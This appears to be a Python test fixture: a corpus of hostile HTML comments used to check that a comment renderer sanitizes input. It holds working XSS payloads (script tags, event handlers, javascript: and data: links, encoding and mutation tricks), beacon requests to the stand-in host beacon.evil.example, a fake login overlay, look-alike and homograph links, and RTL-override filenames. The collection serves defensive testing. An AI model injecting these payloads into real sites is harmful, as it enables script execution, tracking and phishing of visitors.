"""A corpus of hostile comments: what a visitor (or a compromised blog) might send.

Each entry: (name, raw HTML as str or bytes). ``BEACON`` is a host no view may ever contact.
"""

from __future__ import annotations

BEACON = "beacon.evil.example"

HOSTILE: list[tuple[str, str | bytes]] = [
    ("script tag", "<p>hi</p><script>document.title='pwned'</script>"),
    ("script uppercase split", "<SCRIPT>document.title='pwned'</SCRIPT ><p>x</p>"),
    ("script src", f"<script src='https://{BEACON}/x.js'></script>"),
    ("img onerror", "<img src=x onerror=\"document.title='pwned'\">"),
    ("body onload", "<body onload=\"document.title='pwned'\">text</body>"),
    ("svg onload", "<svg onload=\"document.title='pwned'\"><circle r=5></circle></svg>"),
    (
        "svg script",
        "<svg><script>document.title='pwned'</script><foreignObject><p>x</p></foreignObject></svg>",
    ),
    (
        "svg animate href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    ("mathml href", "<math><mi xlink:href=\"javascript:document.title='pwned'\">click</mi></math>"),
    ("mathml maction", "<math><maction actiontype=statusline#http://x>y</maction></math>"),
    ("javascript link", "<a href=\"javascript:document.title='pwned'\">click me</a>"),
    ("javascript entity-encoded", "<a href=\"jav&#x09;ascript&#58;document.title='pwned'\">x</a>"),
    ("javascript spaced", "<a href=\" JaVaScRiPt:document.title='pwned'\">x</a>"),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("remote image beacon", f'<p>nice post</p><img src="https://{BEACON}/pixel.gif" alt="smile">'),
    ("srcset beacon", f'<img srcset="https://{BEACON}/a.png 1x" alt=x>'),
    ("picture source", f'<picture><source srcset="https://{BEACON}/p.png"><img alt=p></picture>'),
    ("css background", f'<p style="background:url(https://{BEACON}/bg.png)">x</p>'),
    (
        "style element import",
        f"<style>@import url(https://{BEACON}/x.css); body{{display:none}}</style>x",
    ),
    (
        "css escapes its box",
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;'
        'background:white">Your session expired, log in again</div>',
    ),
    ("link stylesheet", f'<link rel=stylesheet href="https://{BEACON}/s.css">x'),
    ("meta refresh", f'<meta http-equiv=refresh content="0;url=https://{BEACON}/">x'),
    ("iframe", f'<iframe src="https://{BEACON}/"></iframe>x'),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    ),
    (
        "object embed",
        f'<object data="https://{BEACON}/x.swf"></object><embed src="https://{BEACON}/e">',
    ),
    ("form action", f'<form action="https://{BEACON}/"><input name=p><button>go</button></form>'),
    (
        "video poster",
        f'<video poster="https://{BEACON}/v.png"><source src="https://{BEACON}/v.mp4"></video>',
    ),
    ("audio", f'<audio src="https://{BEACON}/a.mp3" autoplay></audio>'),
    ("base href", f'<base href="https://{BEACON}/"><a href="/rel">relative</a>'),
    ("look-alike link text", f'<a href="https://{BEACON}/login">https://www.mybank.com/login</a>'),
    ("look-alike host text", f'<a href="https://{BEACON}/">paypal.com</a>'),
    ("homograph idn", '<a href="https://аррӏе.com/">apple.com</a>'),
    ("rtl override", "Download invoice\u202egpj.exe and \u2066isolate\u2069 \u202bembed\u202c"),
    ("rtl in link", '<a href="https://example.com/\u202eexe.txt">\u202efdp.exe</a>'),
    ("invalid utf-8", b"bad bytes \xff\xfe\xc3\x28 and <b>bold</b> \xed\xa0\x80"),
    ("lone surrogate", "lone \udcff surrogate"),
    ("nul and controls", "nul\x00here\x07bell\x1b[31mred"),
    ("comment trick", "<!-- <script>document.title='pwned'</script> -->ok"),
    ("cdata trick", "<![CDATA[<script>document.title='pwned'</script>]]>ok"),
    ("nested unclosed", "<p><b><i><a href='https://example.com'>open" * 50),
    ("template", "<template><script>document.title='pwned'</script></template>x"),
    (
        "noscript mxss",
        "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
    ),
    (
        "attribute breakout",
        '<a href="https://example.com/" title=\'"><script>document.title=1</script>\'>t</a>',
    ),
    (
        "huge comment",
        "<p>"
        + ("All work and no play. " * 50_000)
        + "</p><img src=x onerror=document.title='pwned'>",
    ),
    ("deeply nested", "<blockquote>" * 2000 + "deep" + "</blockquote>" * 2000),
    ("very long word", "A" * 200_000),
    ("mailto with script", '<a href="mailto:x@example.com?body=<script>">mail</a>'),
]
